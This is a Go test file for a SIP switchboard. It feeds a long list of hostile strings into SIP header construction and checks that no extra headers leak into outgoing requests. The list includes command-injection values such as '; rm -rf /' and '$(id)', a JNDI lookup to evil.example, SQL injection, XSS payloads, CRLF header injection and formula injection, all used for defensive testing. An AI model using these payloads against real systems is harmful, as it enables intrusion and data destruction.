package switchboard

import (
	"bytes"
	"maps"
	"slices"
	"strings"
	"testing"
	"unicode"

	"hubline/base/tel"
	"hubline/product/phoneuser"
	"hubline/sip"
)

// hostileTexts are a word of every script, and what breaks programs that put text into other text.
func hostileTexts() []string {
	var list []string
	for _, script := range slices.Sorted(maps.Keys(unicode.Scripts)) {
		var word []rune
		table := unicode.Scripts[script]
		for _, r := range table.R16 {
			word = append(word, rune(r.Lo), rune(r.Hi))
		}
		for _, r := range table.R32 {
			word = append(word, rune(r.Lo), rune(r.Hi))
		}
		list = append(list, string(word[:min(len(word), 12)]))
	}
	for _, c := range "\u061c\u200b\u200c\u200d\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2060\u2066\u2067\u2068\u2069\ufeff\u00ad\u034f\u180e\u2028\u2029\u0085\ufffd\U000e0001\U0010ffff" {
		list = append(list, string(c), "Mary"+string(c)+"Chen")
	}
	for c := range rune(0x21) {
		list = append(list, "Mary"+string(c)+"Chen")
	}
	return append(list,
		"Z"+strings.Repeat("\u0351\u0352\u0353", 200), strings.Repeat("\u202e", 300), "Маry Сhеn", "Ｍａｒｙ", "MARY\u0130\u0131ſK", "\xff\xfe", "\xc3", "a\xe2\x80", "\xed\xa0\x80", "\x7f",
		"%s%n%x%d", "%00", "%0d%0aX-Evil: 1", "%", "%zz", "{{.}}", "${jndi:ldap://evil.example}", "`id`", "$(id)", "; rm -rf /", "|id",
		"' OR 1=1 --", "'; DROP TABLE people; --", `" OR ""="`, "\\'", "1/**/UNION/**/SELECT", "<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "</title>", "<!--", "&lt;", "&#0;",
		"=1+1", "@SUM(1)", "+1", "-1", "\t=1", "a,b", `a","b`, "a;b", "\"", `\`, `\"`, `"\`, `""`, `\\"`, "<", ">", "<sip:evil@evil.example>", `"<sip:evil@evil.example>;tag=1`, `" <sip:evil@evil.example>, "`,
		"\r\nX-Evil: 1", "\nX-Evil: 1", "\rX-Evil: 1", "\r\n\r\nv=0", "\r\n X-Evil: 1", "a\r\n\tb", "\x00\r\nX-Evil: 1", "\u2028X-Evil: 1", "\u0085X-Evil: 1", "\x0bX-Evil: 1", "嘊嘍X-Evil: 1",
		";tag=evil", "?X-Evil=1", ";lr", "@evil.example", "evil@evil.example", ":5060", "sip:", "tel:+61299999999", "sips:a@b", "*", ",", ", <sip:evil@evil.example>", " ", "", "  two  spaces  ", "SIP/2.0 200 OK", "INVITE sip:a SIP/2.0",
		"Content-Length: 0", "=?utf-8?q?evil?=", "😀👩‍👩‍👧", "\U0001f1e6\U0001f1fa", "é", "e\u0301", strings.Repeat("長", 80), strings.Repeat("a", 2000))
}

// spoken is a text as a quoted string can hold it: without the characters that control something.
func spoken(text string) string {
	return string(slices.DeleteFunc([]byte(text), func(c byte) bool { return c < ' ' || c == 0x7f }))
}

// B9, on the wire: whatever stands in a text that leads into SIP, the name of a phone user, an extension, what a number is called, the
// caller's name and number, what goes out reads back as exactly the headers that were meant, with that text in them.
func TestB9HostileTextOnTheWire(t *testing.T) {
	t.Parallel()
	b := &Board{domain: "sip.hubline.test"}
	texts := hostileTexts()
	if len(texts) < 200 {
		t.Fatalf("only %d texts", len(texts))
	}
	sent := 0
	for _, text := range texts {
		for _, hidden := range []bool{false, true} {
			m := b.inviteDevice(sip.URI{Scheme: "sip", User: text, Host: "192.0.2.7"}, phoneuser.User{Settings: phoneuser.Settings{DisplayName: text, Extension: text}}, shown{name: text, user: text, hidden: hidden}, nil)
			want := []string{"To", "From", "P-Asserted-Identity"}
			if hidden {
				want = want[:2]
			}
			back := readBack(t, text, m, want)
			to, from := back.To(), back.From()
			if to.Name != spoken(text) || to.URI.User != text || to.URI.Host != b.domain || len(to.Params) != 0 {
				t.Errorf("%q as a phone user arrives as %+v", text, to)
			}
			if hidden && (from.Name != "Anonymous" || from.URI.User != "anonymous") || !hidden && (from.Name != spoken(text) || from.URI.User != text || from.URI.Host != b.domain) {
				t.Errorf("%q as a caller arrives as %+v", text, from)
			}
			if back.Target.User != text || back.Target.Host != "192.0.2.7" {
				t.Errorf("%q as a target arrives as %+v", text, back.Target)
			}
			sent++
			for _, form := range []string{"pai", "rpid", ""} {
				c := &Carrier{Identity: form, Domain: "carrier.example"}
				m := sip.NewRequest("INVITE", sip.URI{Scheme: "sip", User: "+61491570157", Host: "carrier.example"})
				c.identify(m, tel.Plan{}, identity{number: text, hidden: hidden}, b.domain)
				var want []string
				for _, name := range []string{"Privacy", "From", "P-Asserted-Identity", "Remote-Party-ID"} {
					if m.Get(name) != "" {
						want = append(want, name)
					}
				}
				readBack(t, text, m, want)
				sent++
			}
		}
	}
	t.Logf("%d texts in %d requests, read back", len(texts), sent)
}

// readBack writes a request as it goes out and reads it again.
func readBack(t *testing.T, text string, m *sip.Message, want []string) *sip.Message {
	t.Helper()
	m.Set("Via", "SIP/2.0/UDP 198.51.100.9;branch=z9hG4bK9")
	m.Set("Call-ID", "9")
	m.Set("CSeq", "1 INVITE")
	out := m.AppendTo(nil)
	back, err := sip.Parse(out)
	if err != nil {
		t.Fatalf("%q leaves as what nobody reads: %v\n%q", text, err, out)
	}
	head, body, _ := bytes.Cut(out, []byte("\r\n\r\n"))
	var names []string
	for _, line := range strings.FieldsFunc(string(head), func(c rune) bool { return c == '\r' || c == '\n' })[1:] { // as the most gullible would
		name, _, _ := strings.Cut(line, ":")
		names = append(names, name)
	}
	want = append(slices.Clone(want), "Via", "Call-ID", "CSeq", "Content-Length")
	slices.Sort(want)
	slices.Sort(names)
	if !slices.Equal(slices.DeleteFunc(names, func(n string) bool { return n == "Max-Forwards" }), want) || len(body) != 0 {
		t.Fatalf("%q goes out with the headers %q and the body %q, want %q:\n%s", text, names, body, want, out)
	}
	return back
}
